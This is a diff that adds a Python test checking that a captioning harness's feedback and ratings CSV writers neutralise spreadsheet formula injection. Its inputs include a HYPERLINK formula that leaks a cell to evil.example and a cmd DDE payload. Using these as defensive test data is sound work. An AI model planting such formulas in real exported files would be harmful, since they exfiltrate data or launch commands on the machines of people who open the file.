@@ -1,6 +1,8 @@
 """The correction-rate SLI: a feedback log of accepted, corrected and rejected captions, read by
 ``harness slo``; written by the dashboard's rating page; exact figures on a constructed log."""
 
+import csv
+import io
 import json
 import sys
 import time
@@ -268,3 +270,25 @@ def test_the_example_spec(tmp_path):
     spec = parse_spec((ROOT / "examples" / "correction.yaml").read_text())
     (r,) = evaluate_records(spec, load_records(folder), folder=folder).results
     assert (r.slo.name, r.slo.objective, r.sli.ratio, r.met) == ("accepted-captions", 0.9, 0.9, True)
+
+
+def test_text_that_a_spreadsheet_would_run_is_neutralised_and_read_back_as_it_was(tmp_path, ratings_module):
+    """OWASP's CSV injection rule on the files people open: a cell starting with = + - @ tab or CR
+    is written with a leading apostrophe (so is one already starting with an apostrophe), and the
+    readers give the original back."""
+    from harness.quality.hybrid import load_ratings
+
+    r = ratings_module
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"ok")'
+    texts = [formula, "+1 square", "-2 circles", "@SUM(A1:A9)", "\tcat", "'tis a red circle", "a plain caption"]
+    for i, text in enumerate(texts):
+        r.append_feedback(tmp_path, r.FeedbackRow(str(i), "", "corrected", text, "=cmd|' /C calc'!A0", "canary"))
+        r.append_rating(tmp_path, r.RatingRow(f"-{i}", "@rater", 3, "canary", text))
+    raw = (tmp_path / "feedback.csv").read_text() + (tmp_path / "ratings.csv").read_text()
+    for row in csv.reader(io.StringIO(raw)):
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
+    rows = read_feedback(tmp_path / "feedback.csv")
+    assert [e.corrected_caption for e in rows] == [t.strip() for t in texts]
+    assert "'=cmd|' /C calc'!A0" in raw  # the rater's name, neutralised on disk
+    ratings = load_ratings(tmp_path / "ratings.csv")
+    assert [(x.image_id, x.rater) for x in ratings] == [(f"-{i}", "@rater") for i in range(len(texts))]
